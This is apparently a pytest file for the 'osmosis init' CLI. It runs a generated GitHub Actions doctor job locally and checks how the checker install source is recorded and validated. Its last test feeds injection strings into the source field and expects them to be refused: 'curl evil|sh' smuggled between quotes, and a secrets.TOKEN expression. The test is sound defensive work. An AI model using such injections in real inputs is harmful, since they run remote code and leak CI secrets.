"""The CI workflow `osmosis init` writes passes on the workspace's first push: its steps, run here.

GitHub is not here, so the test plays the runner for the doctor job: it reads the rendered
`.github/workflows/osmosis.yml`, takes the job's `run:` steps (the `uses:` steps are checkout and
setup-python, which this machine already is) and runs each as the runner does (`bash --noprofile
--norc -eo pipefail`, the workflow's `env`), in a new virtualenv that has no osmosis-workspace.
The install source is the wheel built from this checkout, given at init as `checker_source`, which
is the way a workspace owner points CI at a git tag, a wheel or a private index.

So that the test needs no package index, the new virtualenv gets the wheel's dependencies first
(uv, from its cache); the step's own `pip install` then installs the checker itself from the wheel.
"""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from email.parser import HeaderParser
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from osmosis_workspace.cli import app

BIN = "Scripts" if os.name == "nt" else "bin"
GIT_IDENTITY = {"GIT_AUTHOR_NAME": "ci", "GIT_AUTHOR_EMAIL": "ci@example.invalid",
                "GIT_COMMITTER_NAME": "ci", "GIT_COMMITTER_EMAIL": "ci@example.invalid"}


def dependencies(wheel: Path) -> list[str]:
    with zipfile.ZipFile(wheel) as zf:
        [name] = [n for n in zf.namelist() if n.endswith(".dist-info/METADATA")]
        meta = HeaderParser().parsestr(zf.read(name).decode("utf-8"))
    return [req for req in meta.get_all("Requires-Dist") or [] if "extra ==" not in req]


@pytest.fixture(scope="module")
def runner_venv(tmp_path_factory, release_wheel) -> Path:
    """A new virtualenv with pip (as setup-python gives), the checker's dependencies, not the checker."""
    venv = tmp_path_factory.mktemp("runner") / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, capture_output=True)
    uv = Path(sys.executable).parent / "uv"
    proc = subprocess.run([str(uv), "pip", "install", "--quiet", "-p", str(venv / BIN / "python"),
                           *dependencies(release_wheel)], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return venv


def runner_env(venv: Path, workflow: dict, job: dict) -> dict[str, str]:
    """The process environment the way the runner builds it: no virtualenv of this test run on PATH."""
    ours = {str(Path(sys.executable).parent), str(Path(sys.prefix) / BIN)}
    path = [str(venv / BIN)] + [p for p in os.environ["PATH"].split(os.pathsep) if p not in ours]
    env = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME")}
    env.update(GIT_IDENTITY, PATH=os.pathsep.join(path), GITHUB_ACTIONS="true", CI="true", NO_COLOR="1")
    for scope in (workflow.get("env") or {}, job.get("env") or {}):
        env.update({k: str(v) for k, v in scope.items()})
    return env


def run_steps(ws: Path, venv: Path, job_name: str, tmp: Path) -> list[subprocess.CompletedProcess]:
    """Every run: step of the job, in order, stopping at the first failure as the runner does."""
    workflow = yaml.safe_load((ws / ".github/workflows/osmosis.yml").read_text(encoding="utf-8"))
    job = workflow["jobs"][job_name]
    results = []
    for step in job["steps"]:
        if "run" not in step:
            assert step["uses"].split("@")[0] in ("actions/checkout", "actions/setup-python"), step
            continue
        assert "${{" not in step["run"], "a step that needs GitHub's expressions cannot run here"
        script = tmp / "step.sh"
        script.write_text(step["run"], encoding="utf-8")
        env = runner_env(venv, workflow, job)
        env.update({k: str(v) for k, v in (step.get("env") or {}).items()})
        proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=ws, env=env,
                              capture_output=True, text=True, stdin=subprocess.DEVNULL)
        results.append(proc)
        if proc.returncode != 0:
            break
    return results


def init(target: Path, source: str) -> Path:
    result = CliRunner().invoke(app, ["init", str(target), "--defaults", "--data", f"checker_source={source}"])
    assert result.exit_code == 0, result.output
    return target


@pytest.mark.slow
def test_the_doctor_job_passes_on_a_fresh_workspace_with_the_checker_from_the_recorded_source(
        runner_venv, release_wheel, tmp_path):
    ws = init(tmp_path / "fresh", str(release_wheel))
    # what the workspace owner reads: the answer recorded at init, and the workflow's one install source
    assert f"checker_source: {release_wheel}" in (ws / ".copier-answers.yml").read_text(encoding="utf-8")
    workflow = yaml.safe_load((ws / ".github/workflows/osmosis.yml").read_text(encoding="utf-8"))
    assert workflow["env"]["OSMOSIS_CHECKER"] == str(release_wheel)

    results = run_steps(ws, runner_venv, "doctor", tmp_path)
    assert [p.returncode for p in results] == [0, 0], "\n".join(p.stdout + p.stderr for p in results)
    # the checker that ran is the one the install step put into the runner's virtualenv, not this checkout
    where = subprocess.run([str(runner_venv / BIN / "python"), "-c", "import osmosis_workspace; print(osmosis_workspace.__file__)"],
                           capture_output=True, text=True, cwd=tmp_path, env=runner_env(runner_venv, {}, {}))
    assert Path(where.stdout.strip()).is_relative_to(runner_venv), where
    assert "::error" not in results[-1].stdout  # doctor's GitHub annotations: no error on a fresh workspace


@pytest.mark.slow
def test_an_unreachable_source_fails_the_install_step_with_one_line_naming_it(runner_venv, tmp_path):
    source = "git+https://127.0.0.1:9/osmosis-workspace.git@v0.1.0"  # nothing listens on port 9
    ws = init(tmp_path / "offline", source)
    [install] = run_steps(ws, runner_venv, "doctor", tmp_path)  # the runner stops at the failed step
    assert install.returncode == 1
    errors = [line for line in install.stdout.splitlines() if line.startswith("::error")]
    expected = (f"::error::could not install the checker from '{source}' "
                "(checker_source in .copier-answers.yml; pip's reason is above)")
    assert errors == [expected], install.stdout
    assert "127.0.0.1" in install.stderr  # pip's own reason, above the annotation


def test_the_rehearse_job_installs_the_checker_with_the_doctor_jobs_step(make_workspace):
    # The rehearse job (Python 3.12, uv, the SDK) needs the package index for uv and osmosis-ai, so it
    # is not run here; its checker install is the doctor job's step plus uv, which the tests above run.
    ws = make_workspace(git=False)
    jobs = yaml.safe_load((ws / ".github/workflows/osmosis.yml").read_text(encoding="utf-8"))["jobs"]
    [doctor] = [s["run"] for s in jobs["doctor"]["steps"] if "$OSMOSIS_CHECKER" in s.get("run", "")]
    [rehearse] = [s["run"] for s in jobs["rehearse"]["steps"] if "$OSMOSIS_CHECKER" in s.get("run", "")]
    uv_line = "python -m pip install --disable-pip-version-check --quiet uv\n"
    assert uv_line in rehearse and rehearse.replace(uv_line, "") == doctor


def test_changing_the_recorded_source_and_updating_rewrites_the_workflow(make_workspace):
    ws = make_workspace()
    answers = ws / ".copier-answers.yml"
    assert "checker_source: pypi\n" in answers.read_text(encoding="utf-8")  # recorded at init, not asked
    tag = "git+https://github.com/osmosis-ai/osmosis-workspace@v0.1.0"
    answers.write_text(answers.read_text(encoding="utf-8").replace("checker_source: pypi", f"checker_source: {tag}"),
                       encoding="utf-8")
    subprocess.run(["git", "commit", "-qam", "CI installs the checker from a tag"], cwd=ws, check=True,
                   env={**os.environ, **GIT_IDENTITY})
    result = CliRunner().invoke(app, ["update", str(ws)])
    assert result.exit_code == 0, result.output
    workflow = yaml.safe_load((ws / ".github/workflows/osmosis.yml").read_text(encoding="utf-8"))
    assert workflow["env"]["OSMOSIS_CHECKER"] == tag
    assert f"pip install {tag} # the checker" in (ws / "README.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("source", ['osmosis-workspace"; curl evil|sh; "', "${{ secrets.TOKEN }}", "a\\b", "   "])
def test_a_source_that_could_break_out_of_the_workflow_is_refused(tmp_path, source):
    result = CliRunner().invoke(app, ["init", str(tmp_path / "ws"), "--defaults", "--no-git", "--data",
                                      f"checker_source={source}"])
    assert result.exit_code == 2
    assert "one line of pip arguments, without quotes, backslashes, $, backticks or braces" in result.output
    assert "Traceback" not in result.output and not (tmp_path / "ws").exists()
